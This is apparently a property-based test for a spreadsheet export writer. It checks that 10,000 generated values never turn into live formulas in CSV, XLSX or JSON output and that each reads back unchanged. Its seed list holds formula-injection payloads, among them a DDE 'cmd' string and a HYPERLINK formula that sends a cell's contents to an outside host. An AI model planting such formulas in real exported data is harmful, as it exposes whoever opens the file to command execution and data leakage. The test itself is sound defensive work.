import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { gathered, readRows } from '../../../../test/support/tables.js';
import { EXPORT_FORMATS, type ExportFormat } from '@app/contracts';
import { writePart } from './part-writer.js';

/** What a spreadsheet has been seen to run, and ten thousand values made of what it is made of. */
const KNOWN = [
  ...[
    '=HYPERLINK("http://x/?"&A1)',
    `=cmd|' /C calc'!A0`,
    '+84912345678',
    '-2+3',
    '@SUM(1;2)',
    '＝1+1',
    '\t=1',
    '\r=1',
  ],
  ...['\n=1', ' =1', '\u00a0=1', '\u200b=1', '\ufeff=1', '"=1', "'=1", ';=1', ',=1', 'a;=1', 'a\n+1', '=', '-'],
];
const COLUMNS = ['a', 'b', 'c', 'd', 'e'];
const COUNT = 10_000;
const nasty = fc.oneof(
  fc.constantFrom(...KNOWN),
  fc.string({
    unit: fc.constantFrom(...`=+-@＝＋－＠'" ,;|!&()\t\r\n\u00a0\u200b\ufeffaZ1`),
    minLength: 1,
    maxLength: 12,
  }),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 12 }),
);
// text of PostgreSQL has no NUL
const values = fc.sample(
  nasty.map((text) => text.replaceAll('\0', '') || '=1'),
  { numRuns: COUNT, seed: 20_261_129 },
);
const ROWS = Array.from({ length: COUNT / COLUMNS.length }, (_, n) => values.slice(n * 5, n * 5 + 5));

async function* rows(): AsyncGenerator<string[]> {
  yield* ROWS;
}
const written = (format: ExportFormat): Promise<Buffer> => gathered(writePart(format, COLUMNS, rows()));

/** What a spreadsheet evaluates, whichever separator it believes in. */
const live = (text: string): string[] =>
  text.split(/[,;\t\r\n]/).filter((cell) => /^[\s\0\u200b\ufeff"]*[=+\-@＝＋－＠]/.test(cell));

async function formulasIn(format: ExportFormat, bytes: Buffer): Promise<number> {
  if (format === 'csv') return live(bytes.toString()).length;
  if (format === 'json') return 0; // no spreadsheet opens it: its values are strings
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as never);
  let formulas = 0;
  book.worksheets[0]!.eachRow((row) =>
    row.eachCell((cell) => void (formulas += cell.type === ExcelJS.ValueType.String ? 0 : 1)),
  );
  return formulas;
}

async function readBack(format: ExportFormat, bytes: Buffer): Promise<string[][]> {
  if (format !== 'json') return (await readRows(bytes)).rows.map(({ cells }) => cells);
  return (JSON.parse(bytes.toString()) as Record<string, string>[]).map((row) => COLUMNS.map((name) => row[name]!));
}

it('would find a formula', async () => expect(await formulasIn('csv', Buffer.from('a\r\nb,=1+1\r\n'))).toBe(1));

it.each(EXPORT_FORMATS)('of 10,000 values none is a formula in %s, and each comes back as it was', async (format) => {
  const bytes = await written(format);
  expect(await formulasIn(format, bytes)).toBe(0);
  expect(await readBack(format, bytes)).toEqual(ROWS);
});
